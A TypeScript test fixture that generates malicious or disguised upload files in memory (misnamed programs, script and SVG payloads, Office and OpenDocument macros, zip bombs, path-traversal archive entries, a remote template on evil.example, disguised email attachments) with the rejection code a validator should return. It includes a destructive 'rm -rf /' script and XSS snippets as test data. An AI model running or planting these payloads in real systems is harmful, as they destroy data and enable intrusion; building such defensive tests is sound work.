import { deflateRawSync } from 'node:zlib';
import { makeDocx, makeMessage, makeOpenDocument, makePdf, makePng, makeXlsx, makeZip } from './made-files.ts';

type Hostile = [why: string, fileName: string, bytes: Uint8Array | string, code: string];

const wide = (text: string) => Buffer.from(text, 'utf16le');
const compound = Buffer.from('d0cf11e0a1b11ae1', 'hex');
const program = Buffer.concat([Buffer.from('4d5a900003000000', 'hex'), Buffer.alloc(64)]);
const nested = (parts: Record<string, string | Uint8Array>) => makeDocx({ 'word/embeddings/a.docx': makeDocx(parts) });
const relation = (target: string) =>
  `<Relationships><Relationship Type="x/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;
const attached = (name: string, bytes: Uint8Array | string) => makeMessage([{ name, bytes }]);

/** Files that somebody sends who means harm, or that hide something; made here, so that none lies in the repository. */
export const hostileFiles: readonly Hostile[] = [
  ['text that says it is PDF', 'x.pdf', 'no signature', 'type_differs'],
  ['a program that says it is PDF', 'x.pdf', program, 'type_differs'],
  ['a page that says it is PDF', 'x.pdf', '<html><script>alert(1)</script>', 'type_differs'],
  ['a PDF behind something else', 'x.pdf', Buffer.concat([Buffer.from('GIF89a'), makePdf()]), 'type_differs'],
  ['a PDF that is an archive too', 'x.pdf', Buffer.concat([makePdf(), offsetBy(makePdf().length)]), 'archive'],
  ['a picture that is an archive too', 'x.png', Buffer.concat([makePng(), offsetBy(makePng().length)]), 'archive'],
  ['a program that says it is a picture', 'x.png', program, 'type_differs'],
  [
    'drawn code that says it is a picture',
    'x.jpg',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'type_differs',
  ],
  ['a page that says it is text', 'x.txt', '\n <!-- x --><!DOCTYPE html><script>alert(1)</script>', 'type_differs'],
  ['drawn code that says it is a table', 'x.csv', '<svg onload="alert(1)"></svg>', 'type_differs'],
  ['a script that says it is text', 'x.txt', '#!/bin/sh\nrm -rf /\n', 'type_differs'],
  ['a PDF that says it is text', 'x.txt', makePdf(), 'type_differs'],
  ['zero bytes in text', 'x.csv', Buffer.from('a;b\u0000c'), 'not_text'],
  ['zero bytes far down', 'x.txt', Buffer.concat([Buffer.alloc(9_000, 'a'), Buffer.from([0])]), 'not_text'],
  ['control signs in text', 'x.txt', Buffer.alloc(200, '\u0007'), 'not_text'],
  ['a plain zip that says it is Word', 'x.docx', makeZip({ 'a.txt': 'x' }), 'type_differs'],
  ['a Word file that says it is Excel', 'x.xlsx', makeDocx(), 'type_differs'],
  ['OpenDocument of another kind', 'x.ods', makeOpenDocument('text'), 'type_differs'],
  ['macros', 'x.docx', makeDocx({ 'word/vbaProject.bin': 'x' }), 'macros'],
  ['macros under another case', 'x.docx', makeDocx({ 'word/VBAPROJECT.BIN': 'x' }), 'macros'],
  [
    'macros under another name',
    'x.docx',
    makeDocx({ 'word/media/a.bin': Buffer.concat([compound, wide('_VBA_PROJECT')]) }),
    'macros',
  ],
  [
    'a macro file under a harmless name',
    'x.docx',
    makeDocx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    'macros',
  ],
  ['Excel 4 macros', 'x.xlsx', makeXlsx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'macros'],
  ['a macro file inside', 'x.docx', makeDocx({ 'word/embeddings/a.xlsm': 'x' }), 'macros'],
  ['macros one document deeper', 'x.docx', nested({ 'word/vbaProject.bin': 'x' }), 'macros'],
  [
    'a template from elsewhere',
    'x.docx',
    makeDocx({ 'word/_rels/settings.xml.rels': relation('https://evil.example/a.dotm') }),
    'macros',
  ],
  ['Basic in OpenDocument', 'x.odt', makeOpenDocument('text', { 'Basic/Standard/Module1.xml': 'x' }), 'macros'],
  ['a script in OpenDocument', 'x.odt', makeOpenDocument('text', { 'Scripts/python/a.py': 'x' }), 'macros'],
  [
    'an event in OpenDocument',
    'x.ods',
    makeOpenDocument('spreadsheet', { 'content.xml': '<a><script:event-listener/></a>' }),
    'macros',
  ],
  ['a program inside', 'x.docx', makeDocx({ 'word/embeddings/a.exe': 'x' }), 'archive'],
  ['a program under another name', 'x.docx', makeDocx({ 'word/media/image1.png': program }), 'archive'],
  [
    'a packed program as an object',
    'x.docx',
    makeDocx({ 'word/embeddings/ole.bin': Buffer.concat([compound, wide('\u0001Ole10Native')]) }),
    'archive',
  ],
  ['an archive inside', 'x.docx', makeDocx({ 'word/embeddings/a.zip': 'x' }), 'archive'],
  ['an archive under another name', 'x.docx', makeDocx({ 'word/media/a.bin': makeZip({ a: 'x' }) }), 'archive'],
  ['documents in documents in documents', 'x.docx', nested({ 'word/embeddings/b.docx': makeDocx() }), 'archive'],
  ['a password', 'x.docx', makeDocx({}, undefined, { flags: 1 }), 'encrypted'],
  [
    'a protected Office file',
    'x.docx',
    Buffer.concat([compound, Buffer.alloc(600), wide('EncryptedPackage')]),
    'encrypted',
  ],
  [
    'protected OpenDocument',
    'x.odt',
    makeOpenDocument('text', { 'META-INF/manifest.xml': '<manifest:encryption-data/>' }),
    'encrypted',
  ],
  ['more inside than it may', 'x.docx', makeDocx({}, undefined, { unpackedSize: 2 ** 31 }), 'unpacked_too_large'],
  ['more inside than it says', 'x.docx', lying(), 'unpacked_too_large'],
  ['parts that share their bytes', 'x.docx', overlapping(), 'malformed'],
  ['two parts of one name', 'x.docx', twice(), 'malformed'],
  ['a way out of its folder', 'x.docx', makeDocx({ '../../etc/cron.d/x': 'x' }), 'malformed'],
  ['a way from the root', 'x.docx', makeDocx({ '/etc/passwd': 'x' }), 'malformed'],
  ['a way with a backslash', 'x.docx', makeDocx({ '..\\x': 'x' }), 'malformed'],
  ['a name that differs within', 'x.docx', renamed(), 'malformed'],
  ['something behind its end', 'x.docx', Buffer.concat([makeDocx(), Buffer.from('MZ')]), 'malformed'],
  ['something before its beginning', 'x.docx', Buffer.concat([Buffer.from('MZ-program'), makeDocx()]), 'malformed'],
  ['parts that do not unpack', 'x.docx', broken(), 'malformed'],
  [
    'too many parts',
    'x.docx',
    makeDocx(Object.fromEntries(Array.from({ length: 5_001 }, (_, n) => [`p${n}`, '']))),
    'unpacked_too_large',
  ],
  ['text that says it is a message', 'x.eml', 'Geachte heer,\n\nEen verslag.', 'type_differs'],
  ['an archive attached', 'x.eml', attached('dossiers.zip', makeZip({ a: 'x' })), 'attachment'],
  ['a program attached', 'x.eml', attached('factuur.exe', program), 'attachment'],
  ['a program under another name', 'x.eml', attached('factuur.pdf', program), 'attachment'],
  ['an archive under another name', 'x.eml', attached('factuur.pdf', makeZip({ a: 'x' })), 'attachment'],
  [
    'a name in cipher',
    'x.eml',
    attached(`=?utf-8?B?${Buffer.from('factuur.js').toString('base64')}?=`, 'x'),
    'attachment',
  ],
  ['a page attached', 'x.eml', attached('factuur.html', '<script/>'), 'attachment'],
  ['macros attached', 'x.eml', attached('a.docx', makeDocx({ 'word/vbaProject.bin': 'x' })), 'macros'],
];

/** A zip whose directory counts from the beginning of the file that it hangs on to. */
function offsetBy(before: number): Buffer {
  const zip = makeZip({ 'a.txt': 'x' });
  const directory = zip.readUInt32LE(zip.length - 6);
  zip.writeUInt32LE(directory + before, zip.length - 6);
  zip.writeUInt32LE(before, directory + 42);
  return zip;
}

/** Says of its largest part that it holds ten bytes. */
function lying(): Buffer {
  const zip = makeDocx({ 'word/media/a.xml': Buffer.alloc(2_000_000, 'a') });
  const entry = zip.lastIndexOf('word/media/a.xml') - 46;
  zip.writeUInt32LE(10, entry + 24);
  return zip;
}

function overlapping(): Buffer {
  const zip = makeDocx({ 'word/a.xml': 'a'.repeat(100), 'word/b.xml': 'b'.repeat(100) });
  const [first, second] = ['word/a.xml', 'word/b.xml'].map((name) => zip.lastIndexOf(name) - 46);
  zip.writeUInt32LE(zip.readUInt32LE((first as number) + 42), (second as number) + 42);
  return zip;
}

function twice(): Buffer {
  return replaced(makeDocx({ 'word/a.xml': 'x', 'word/b.xml': 'y' }), 'word/b.xml', 'word/a.xml');
}

/** The directory says another name than the part itself. */
function renamed(): Buffer {
  const zip = makeDocx({ 'word/a.exe': 'x' });
  zip.write('word/a.xml', zip.lastIndexOf('word/a.exe'), 'latin1');
  return zip;
}

function broken(): Buffer {
  const content = Buffer.from('<w:document/>'.repeat(50));
  const zip = makeDocx({ 'word/c.xml': content });
  zip.fill(0xff, zip.indexOf(deflateRawSync(content)), zip.indexOf(deflateRawSync(content)) + 10);
  return zip;
}

function replaced(bytes: Buffer, from: string, to: string): Buffer {
  return Buffer.from(bytes.toString('latin1').replaceAll(from, to), 'latin1');
}
